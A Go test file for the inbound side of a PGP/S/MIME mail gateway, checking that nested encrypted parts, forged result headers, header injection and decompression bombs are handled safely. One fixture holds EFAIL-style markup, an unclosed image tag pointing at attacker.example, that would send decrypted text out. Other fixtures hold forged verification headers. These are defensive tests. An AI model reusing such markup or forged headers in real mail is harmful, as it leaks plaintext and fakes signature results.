package crypto

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// inBodyOf returns the Content-Type field and body of a message, to embed
// it as a part of another.
func inBodyOf(t testing.TB, msg []byte) (string, string) {
	t.Helper()
	h, body := inSplit(t, msg)
	return "Content-Type: " + h.Get("Content-Type") + "\r\n", string(body)
}

// TestInboundRootOnly proves the root-only rule: encrypted content below
// the root (a PGP/MIME part in attacker-made multipart/mixed, armor inside
// HTML, armor with text around it, an encrypted forwarded message) is
// reported partial, the body is left byte for byte, and the plaintext
// never reaches the delivered message.
func TestInboundRootOnly(t *testing.T) {
	f := inPGPFixture(t)
	ct, body := inBodyOf(t, f.msgs["se"])
	armor := func() string {
		i := strings.Index(body, "-----BEGIN PGP MESSAGE-----")
		j := strings.Index(body, "-----END PGP MESSAGE-----")
		return body[i : j+len("-----END PGP MESSAGE-----")]
	}()
	hdr := inHeader("Alice <alice@example.net>", "Root only")
	tests := []struct{ name, msg, enc string }{
		{"pgpmime-in-mixed", hdr + "Content-Type: multipart/mixed; boundary=\"atk\"\r\n\r\n" +
			"--atk\r\nContent-Type: text/plain\r\n\r\nPlease wire the money to the account below:\r\n" +
			"--atk\r\n" + ct + "\r\n" + body + "\r\n--atk--\r\n", "partial; reason=nested-part"},
		{"armor-in-html-part", hdr + "Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n" +
			"--alt\r\nContent-Type: text/plain\r\n\r\nSee the HTML part.\r\n" +
			"--alt\r\nContent-Type: text/html\r\n\r\n<html><body><p>Dear customer,</p><pre>" + armor + "</pre><img src=\"http://attacker.example/x?\r\n</body></html>\r\n--alt--\r\n",
			"partial; reason=nested-part"},
		{"armor-in-html-root", hdr + "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Dear customer,</p><pre>" + armor + "</pre>\r\n",
			"partial; protocol=openpgp; reason=embedded-armor"},
		{"armor-with-text-around", hdr + "Content-Type: text/plain\r\n\r\nAttacker text before.\r\n" + armor + "\r\nAttacker text after.\r\n",
			"partial; protocol=openpgp; reason=embedded-armor"},
		{"forwarded-encrypted-message", hdr + "Content-Type: multipart/mixed; boundary=\"fwd\"\r\n\r\n" +
			"--fwd\r\nContent-Type: text/plain\r\n\r\nForwarded:\r\n" +
			"--fwd\r\nContent-Type: message/rfc822\r\n\r\n" + string(toCRLF(f.msgs["se"])) + "\r\n--fwd--\r\n",
			"partial; reason=nested-part"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, policy := range []Action{Accept, Reject} {
				e := inEngine(t, func(c *Policy) { c.Actions.OnDecryptError = policy })
				r := inProcess(t, e, f.keys, []byte(tt.msg), time.Time{})
				if r.plan.Action != Accept {
					t.Fatalf("%s: action %s %q, want accept", policy, r.plan.Action, r.plan.Reply)
				}
				if got := r.enc(); got != tt.enc {
					t.Errorf("%s: %s = %q, want %q", policy, HeaderEncryption, got, tt.enc)
				}
				if got := r.sig(); got != "none" {
					t.Errorf("%s: %s = %q, want none", policy, HeaderSignature, got)
				}
				inUnchanged(t, r)
				if bytes.Contains(r.raw(), []byte(inUTF8Text)) {
					t.Errorf("%s: plaintext spliced into the message", policy)
				}
			}
		})
	}
}

// TestInboundNestedSignature proves that a signature deeper in the tree
// (a mailing-list footer added after the signed part, a forwarded signed
// message) is reported partial, never valid, and the body is untouched.
func TestInboundNestedSignature(t *testing.T) {
	f := inPGPFixture(t)
	ct, body := inBodyOf(t, f.msgs["signed"])
	hdr := inHeader("Alice <alice@example.net>", "Nested signature")
	for _, tc := range []struct{ name, msg string }{
		{"list-footer", hdr + "Content-Type: multipart/mixed; boundary=\"list\"\r\n\r\n--list\r\n" + ct + "\r\n" + body +
			"\r\n--list\r\nContent-Type: text/plain\r\n\r\n_______________\r\nlist mailing list - unsubscribe: ...\r\n--list--\r\n"},
		{"prepended-text", hdr + "Content-Type: multipart/mixed; boundary=\"pre\"\r\n\r\n--pre\r\nContent-Type: text/plain\r\n\r\nURGENT: the signed text below is outdated, pay to account X.\r\n--pre\r\n" +
			ct + "\r\n" + body + "\r\n--pre--\r\n"},
		{"forwarded", hdr + "Content-Type: multipart/mixed; boundary=\"fwd\"\r\n\r\n--fwd\r\nContent-Type: text/plain\r\n\r\nFYI\r\n" +
			"--fwd\r\nContent-Type: message/rfc822\r\n\r\n" + string(toCRLF(f.msgs["signed"])) + "\r\n--fwd--\r\n"},
		{"cleartext-in-mixed", hdr + "Content-Type: multipart/mixed; boundary=\"cl\"\r\n\r\n--cl\r\n" + string(toCRLF(f.msgs["clearsign"][bytes.Index(f.msgs["clearsign"], []byte("Content-Type")):])) + "\r\n--cl--\r\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := inProcess(t, inEngine(t, func(c *Policy) { c.Inbound.UnwrapSigned = true }), f.keys, []byte(tc.msg), time.Time{})
			inWant(t, r, "none", "partial; reason=nested-part")
			inUnchanged(t, r)
		})
	}
}

// TestInboundNoIntegrityProtection proves that a message without MDC
// (gpg --rfc2440: a SED packet) is refused like any decryption failure
// and its plaintext never delivered.
func TestInboundNoIntegrityProtection(t *testing.T) {
	f := inPGPFixture(t)
	r := inProcess(t, inEngine(t, nil), f.keys, f.msgs["u-nomdc"], time.Time{})
	inWant(t, r, "failed; protocol=openpgp; reason=decrypt-failed", "none")
	inUnchanged(t, r)
	if bytes.Contains(r.raw(), []byte(inUTF8Text)) {
		t.Error("plaintext delivered")
	}
}

// TestInboundDecompressionCap proves limits.max_decompressed_size: a
// message that inflates past it fails uniformly; under a larger cap the
// same message decrypts.
func TestInboundDecompressionCap(t *testing.T) {
	f := inPGPFixture(t)
	for _, tc := range []struct {
		limit int64
		enc   string
	}{
		{64 << 10, "failed; protocol=openpgp; reason=decrypt-failed"},
		{2 << 20, "decrypted; protocol=openpgp; key=" + f.fpr["gw"]},
	} {
		e := inEngine(t, func(c *Policy) { c.Limits.MaxDecompressedSize = tc.limit })
		r := inProcess(t, e, f.keys, f.msgs["u-bomb"], time.Time{})
		if got := r.enc(); got != tc.enc {
			t.Errorf("cap %d: %s = %q, want %q", tc.limit, HeaderEncryption, got, tc.enc)
		}
	}
}

// TestInboundForgedHeaders proves that every incoming X-Cryptmilter-*
// field and every Authentication-Results field under our authserv-id are
// removed (whatever their case or comments), that other hosts'
// Authentication-Results stay, and that ours come first, once.
func TestInboundForgedHeaders(t *testing.T) {
	f := inPGPFixture(t)
	forged := "X-Cryptmilter-Encryption: decrypted; protocol=openpgp; key=0000\r\n" +
		"x-cryptmilter-signature: valid; protocol=openpgp; signer=boss@example.org\r\n" +
		"X-CRYPTMILTER-SIGNATURE: valid; protocol=smime; signer=boss@example.org\r\n" +
		"X-Cryptmilter-Extra: trust me\r\n" +
		"Authentication-Results: " + inHost + "; smime=pass body.smime-identifier=boss@example.org\r\n" +
		"Authentication-Results: MX.Example.ORG (forged);\r\n smime=pass\r\n" +
		"Authentication-Results: other.example; dkim=pass header.d=example.net\r\n" +
		"X-RT-Incoming-Signature: boss@example.org\r\n" +
		"X-RT-Privacy: GnuPG\r\n" +
		"X-RT-Incoming-Encryption: Success\r\n"
	plain := inHeader("Alice <alice@example.net>", "Plain") + "Content-Type: text/plain\r\n\r\nhello\r\n"
	for _, tc := range []struct {
		name, msg, enc, sig string
		rt                  bool
	}{
		{"plain", plain, "none", "none", false},
		{"plain/rt", plain, "none", "none", true},
		{"signed", string(f.msgs["signed"]), "none", "valid; protocol=openpgp; signer=alice@example.net; key=" + f.fpr["alice"], false},
		{"decrypted/rt", string(f.msgs["se"]), "decrypted; protocol=openpgp; key=" + f.fpr["gw"],
			"valid; protocol=openpgp; signer=alice@example.net; key=" + f.fpr["alice"], true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := inEngine(t, func(c *Policy) { c.Inbound.RTHeaders = tc.rt })
			r := inProcess(t, e, f.keys, []byte(forged+tc.msg), time.Time{})
			inWant(t, r, tc.enc, tc.sig)
			if r.header[0].Name != HeaderEncryption || r.header[1].Name != HeaderSignature {
				t.Errorf("result headers not at the top: %s, %s", r.header[0].Name, r.header[1].Name)
			}
			var names []string
			for _, fl := range r.header {
				if hasPrefixFold(fl.Name, "X-Cryptmilter-") {
					names = append(names, fl.Name)
				}
			}
			if diff := cmp.Diff([]string{HeaderEncryption, HeaderSignature}, names); diff != "" {
				t.Errorf("X-Cryptmilter fields (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff([]string{"other.example; dkim=pass header.d=example.net"}, r.header.Values("Authentication-Results")); diff != "" {
				t.Errorf("Authentication-Results (-want +got):\n%s", diff)
			}
			rt := map[string][]string{}
			for _, n := range []string{"X-RT-Incoming-Encryption", "X-RT-Incoming-Signature", "X-RT-Privacy"} {
				if v := r.header.Values(n); v != nil {
					rt[n] = v
				}
			}
			var want map[string][]string
			switch {
			case !tc.rt:
				// Forged either way: removed (one list of result fields
				// for both directions).
				want = map[string][]string{}
			case tc.enc == "none":
				want = map[string][]string{"X-RT-Incoming-Encryption": {"Not encrypted"}}
			default:
				want = map[string][]string{"X-RT-Incoming-Encryption": {"Success"}, "X-RT-Incoming-Signature": {"alice@example.net"}, "X-RT-Privacy": {"GnuPG"}}
			}
			if diff := cmp.Diff(want, rt); diff != "" {
				t.Errorf("RT headers (-want +got):\n%s", diff)
			}
		})
	}
}

// TestInboundUniformFailure proves that every decryption failure of a
// message for the gateway (tampered ciphertext, truncated, garbage, a
// session key that does not fit, broken RSA padding, no integrity
// protection, the decompression cap) gives the same plan: the same header
// values with tag, the same reply with reject and tempfail, and the body
// untouched.
func TestInboundUniformFailure(t *testing.T) {
	f := inPGPFixture(t)
	cases := []string{"u-tampered", "u-truncated", "u-garbage", "u-wrong-session-key", "u-rsa-padding", "u-nomdc", "u-bomb"}
	small := func(c *Policy) { c.Limits.MaxDecompressedSize = 64 << 10 }
	for _, policy := range []struct {
		name   string
		action Action
		reply  string
	}{
		{"tag", Accept, ""},
		{"reject", Reject, "550 5.7.5 Message could not be decrypted"},
		{"tempfail", Tempfail, "451 4.7.5 Message could not be decrypted, try again later"},
	} {
		t.Run(policy.name, func(t *testing.T) {
			e := inEngine(t, func(c *Policy) { small(c); c.Actions.OnDecryptError = policy.action })
			var first *Plan
			for _, name := range cases {
				r := inProcess(t, e, f.keys, f.msgs[name], time.Time{})
				p := r.plan
				if p.Body != nil {
					t.Errorf("%s: body replaced", name)
				}
				switch policy.name {
				case "tag":
					if p.Action != Accept {
						t.Errorf("%s: action %s, want accept", name, p.Action)
					}
					inWant(t, r, "failed; protocol=openpgp; reason=decrypt-failed", "none")
				default:
					if p.Reply.String() != policy.reply {
						t.Errorf("%s: reply %q, want %q", name, p.Reply, policy.reply)
					}
				}
				if first == nil {
					first = p
					continue
				}
				got := fmt.Sprintf("%s|%s|%s|%v", p.Action, p.Reply, p.Decision, p.HeaderOps)
				want := fmt.Sprintf("%s|%s|%s|%v", first.Action, first.Reply, first.Decision, first.HeaderOps)
				if got != want {
					t.Errorf("%s gives a plan that differs from %s's:\n got %s\nwant %s", name, cases[0], got, want)
				}
			}
		})
	}
	// The cap is what fails the compressed message: without it, it
	// decrypts.
	r := inProcess(t, inEngine(t, nil), f.keys, f.msgs["u-bomb"], time.Time{})
	inWant(t, r, "decrypted; protocol=openpgp; key="+f.fpr["gw"], "none")
}

// TestInboundNotForGateway proves that mail encrypted only to other keys
// passes untouched, tagged, whatever on_decrypt_error says.
func TestInboundNotForGateway(t *testing.T) {
	f := inPGPFixture(t)
	for _, policy := range []Action{Accept, Reject, Tempfail} {
		e := inEngine(t, func(c *Policy) { c.Actions.OnDecryptError = policy })
		r := inProcess(t, e, f.keys, f.msgs["notforus"], time.Time{})
		if r.plan.Action != Accept {
			t.Errorf("%s: action %s %q, want accept", policy, r.plan.Action, r.plan.Reply)
		}
		inWant(t, r, "failed; protocol=openpgp; reason=not-for-gateway", "none")
		inUnchanged(t, r)
	}
}

// TestInboundLimits proves that MIME depth and part-count limits on the
// message end in a 552 reply, and that decrypted content over them fails
// like any decryption (a reply of its own would tell the sender something
// about the plaintext).
func TestInboundLimits(t *testing.T) {
	f := inPGPFixture(t)
	hdr := inHeader("Alice <alice@example.net>", "Limits")
	var many strings.Builder
	many.WriteString(hdr + "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n")
	for range 600 {
		many.WriteString("--m\r\nContent-Type: text/plain\r\n\r\nx\r\n")
	}
	many.WriteString("--m--\r\n")
	reply := regexp.MustCompile(`^552 5\.3\.4 `)
	for _, tc := range []struct{ name, msg string }{
		{"depth", hdr + inNested(30)},
		{"parts", many.String()},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := inProcess(t, inEngine(t, nil), f.keys, []byte(tc.msg), time.Time{})
			if r.plan.Action != Reject || !reply.MatchString(r.plan.Reply.String()) {
				t.Errorf("plan %s %q, want reject 552 5.3.4", r.plan.Action, r.plan.Reply)
			}
		})
	}
	t.Run("depth-inside-encryption", func(t *testing.T) {
		r := inProcess(t, inEngine(t, nil), f.keys, f.msgs["deep-in-enc"], time.Time{})
		tampered := inProcess(t, inEngine(t, nil), f.keys, f.msgs["u-tampered"], time.Time{})
		if r.plan.Action != Accept {
			t.Fatalf("plan %s %q, want accept (tagged)", r.plan.Action, r.plan.Reply)
		}
		inWant(t, r, "failed; protocol=openpgp; reason=decrypt-failed", "none")
		inUnchanged(t, r)
		if got, want := fmt.Sprint(r.plan.HeaderOps), fmt.Sprint(tampered.plan.HeaderOps); got != want {
			t.Errorf("header changes differ from a tampered message's:\n got %s\nwant %s", got, want)
		}
	})
	// Within the limits the same shapes pass.
	r := inProcess(t, inEngine(t, func(c *Policy) { c.Limits.MaxMIMEDepth = 40 }), f.keys, []byte(hdr+inNested(30)), time.Time{})
	if r.plan.Action != Accept {
		t.Errorf("depth 30 with max_mime_depth 40: %s %q", r.plan.Action, r.plan.Reply)
	}
}

// TestInboundSanitize proves that a signer UID holding CR/LF and quotes
// and a literal file name holding CR/LF never reach a header or a log
// attribute unsanitized.
func TestInboundSanitize(t *testing.T) {
	f := inPGPFixture(t)
	for _, name := range []string{"evil-se", "evil-filename"} {
		t.Run(name, func(t *testing.T) {
			r := inProcess(t, inEngine(t, func(c *Policy) { c.Inbound.RTHeaders = true }), f.keys, f.msgs[name], time.Time{})
			if !strings.HasPrefix(r.enc(), "decrypted;") {
				t.Errorf("%s = %q, want decrypted", HeaderEncryption, r.enc())
			}
			inHeaderSafe(t, r.header)
			for _, fl := range r.header {
				if strings.EqualFold(fl.Name, "X-Injected") {
					t.Errorf("injected field reached the header: %s: %s", fl.Name, fl.Value)
				}
				if (hasPrefixFold(fl.Name, "X-Cryptmilter-") || hasPrefixFold(fl.Name, "X-RT-")) && strings.ContainsAny(fl.Value, "\"\\<>\r\n") {
					t.Errorf("%s carries unsafe characters: %q", fl.Name, fl.Value)
				}
			}
			for _, a := range r.plan.Attrs {
				if strings.ContainsAny(a.Value.String(), "\r\n\"") {
					t.Errorf("log attribute %s = %q", a.Key, a.Value.String())
				}
			}
			if name == "evil-se" {
				want := "valid; protocol=openpgp; signer=evil@example.net; key=" + f.fpr["evil"] + "; headers=unprotected"
				if r.sig() != want && !strings.HasPrefix(r.sig(), "bad;") && !strings.HasPrefix(r.sig(), "mismatch;") {
					t.Errorf("%s = %q", HeaderSignature, r.sig())
				}
				t.Logf("signer with a CR/LF UID: %s", r.sig())
			}
		})
	}
}

// TestInboundKeepOriginal proves keep_original: the plaintext comes first
// and the original encrypted message is attached as message/rfc822, byte
// for byte.
func TestInboundKeepOriginal(t *testing.T) {
	f := inPGPFixture(t)
	e := inEngine(t, func(c *Policy) { c.Inbound.KeepOriginal = true })
	r := inProcess(t, e, f.keys, f.msgs["se"], time.Time{})
	inWant(t, r, "decrypted; protocol=openpgp; key="+f.fpr["gw"], "valid; protocol=openpgp; signer=alice@example.net; key="+f.fpr["alice"])
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "multipart/mixed") {
		t.Fatalf("Content-Type %q, want multipart/mixed", ct)
	}
	leaves := inLeaves(t, r.raw())
	if len(leaves) != 2 || leaves[0].mediaType != "text/plain" || leaves[1].mediaType != "message/rfc822" {
		t.Fatalf("leaves %v, want text/plain then message/rfc822", leaves)
	}
	if !strings.Contains(string(leaves[0].body), inUTF8Text) {
		t.Errorf("first part %q lacks the plaintext", leaves[0].body)
	}
	var orig bytes.Buffer
	r.in.WriteTo(&orig)
	orig.Write(r.origBody)
	if !bytes.Equal(leaves[1].body, orig.Bytes()) {
		t.Errorf("attached original differs from the received message:\n%s", leaves[1].body)
	}
	// Unencrypted mail is not wrapped.
	r = inProcess(t, e, f.keys, f.msgs["signed"], time.Time{})
	inUnchanged(t, r)
}

// TestInboundProtectedHeaderInjection proves that protected header fields
// restored from inside the encryption cannot carry a line break into the
// outer header (a bare CR followed by a forged result field), while a
// properly folded value is restored. Readers disagree on a bare CR in a
// header, so the signature over that content is not valid either.
func TestInboundProtectedHeaderInjection(t *testing.T) {
	f := inPGPFixture(t)
	r := inProcess(t, inEngine(t, nil), f.keys, f.msgs["inject-protected"], time.Time{})
	inWant(t, r, "decrypted; protocol=openpgp; key="+f.fpr["gw"], "bad; protocol=openpgp; signer=alice@example.net; key="+f.fpr["alice"]+"; reason=ambiguous-mime")
	inHeaderSafe(t, r.header)
	for _, v := range r.header.Values("Subject") {
		if strings.Contains(v, "X-Cryptmilter") {
			t.Errorf("Subject %q smuggles a result field", v)
		}
	}
	if got := r.header.Values("To"); len(got) != 1 || got[0] != "rt@example.org,\tother@example.org" {
		t.Errorf("To = %q, want the folded protected value", got)
	}
}

// TestInboundFromRule proves the From rule on one good signature: valid
// only for the single From address (domain case-insensitive, local part
// too unless [inbound] exact_local_part), else mismatch.
func TestInboundFromRule(t *testing.T) {
	f := inPGPFixture(t)
	_, body := inSplit(t, f.msgs["signed"])
	ct := "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"sig-b\""
	key := "; key=" + f.fpr["alice"]
	// The signer's local part matches From's case-insensitively by
	// default (as Thunderbird compares them); exact_local_part makes it
	// exact. Domains always compare case-insensitively.
	for _, tc := range []struct {
		from  string
		exact bool
		sig   string
	}{
		{"Alice <alice@example.net>", false, "valid; protocol=openpgp; signer=alice@example.net" + key},
		{"\"Alice L.\" <alice@EXAMPLE.Net>", true, "valid; protocol=openpgp; signer=alice@example.net" + key},
		{"ALICE@example.net", true, "mismatch; protocol=openpgp; signer=alice@example.net" + key + "; reason=signer-not-from"},
		{"ALICE@example.net", false, "valid; protocol=openpgp; signer=alice@example.net" + key},
		{"alice@example.net, bob@example.net", false, "mismatch; protocol=openpgp; signer=alice@example.net" + key + "; reason=from-count"},
		{"bob@example.net", false, "mismatch; protocol=openpgp; signer=alice@example.net" + key + "; reason=signer-not-from"},
		{"not an address", false, "mismatch; protocol=openpgp; signer=alice@example.net" + key + "; reason=from-count"},
	} {
		msg := inHeader(tc.from, "From rule") + ct + "\r\n\r\n" + string(body)
		e := inEngine(t, func(c *Policy) { c.Inbound.ExactLocalPart = tc.exact })
		r := inProcess(t, e, f.keys, []byte(msg), time.Time{})
		if got := inHeadersParam.ReplaceAllString(r.sig(), ""); got != tc.sig {
			t.Errorf("From %q (exact %v): %s\n got %q\nwant %q", tc.from, tc.exact, HeaderSignature, got, tc.sig)
		}
	}
}

// TestInboundFromRuleCertificateCase: a certificate whose address has a
// capital in its local part (Ivy@example.com) signs for From
// ivy@example.com by default, and is a mismatch with exact_local_part.
func TestInboundFromRuleCertificateCase(t *testing.T) {
	f := inSMIMEFixture(t)
	for exact, want := range map[bool]string{false: "valid; protocol=smime", true: "mismatch; protocol=smime"} {
		r := inProcess(t, inEngine(t, func(c *Policy) { c.Inbound.ExactLocalPart = exact }), f.keys, f.msgs["sig-capital-cert"], time.Time{})
		if got := r.sig(); !strings.HasPrefix(got, want) {
			t.Errorf("exact_local_part %v: %s %q, want %s…", exact, HeaderSignature, got, want)
		}
	}
}

// TestInboundInlineSignedArmored proves that an inline armored message
// that is signed but not encrypted is verified and shown as its text.
func TestInboundInlineSignedArmored(t *testing.T) {
	f := inPGPFixture(t)
	r := inProcess(t, inEngine(t, nil), f.keys, f.msgs["inline-signed-armored"], time.Time{})
	inWant(t, r, "none", "valid; protocol=openpgp; signer=alice@example.net; key="+f.fpr["alice"])
	if got := inText(t, r.raw(), "text/plain"); !strings.Contains(got, inUTF8Text) || strings.Contains(got, "-----BEGIN PGP") {
		t.Errorf("delivered text %q, want the signed text without armor", got)
	}
}

// TestInboundNoKeystore proves the engine's behaviour without a keyring
// snapshot: encrypted mail passes untouched as not for the gateway,
// signatures are untrusted, nothing fails.
func TestInboundNoKeystore(t *testing.T) {
	f := inPGPFixture(t)
	e := inEngine(t, func(c *Policy) { c.Actions.OnDecryptError = Reject })
	r := inProcess(t, e, nil, f.msgs["se"], time.Time{})
	inWant(t, r, "failed; protocol=openpgp; reason=not-for-gateway", "none")
	inUnchanged(t, r)
	r = inProcess(t, e, nil, f.msgs["signed"], time.Time{})
	inWant(t, r, "none", "untrusted; protocol=openpgp; key="+f.keyID["alice"]+"; reason=unknown-key")
	inUnchanged(t, r)
}
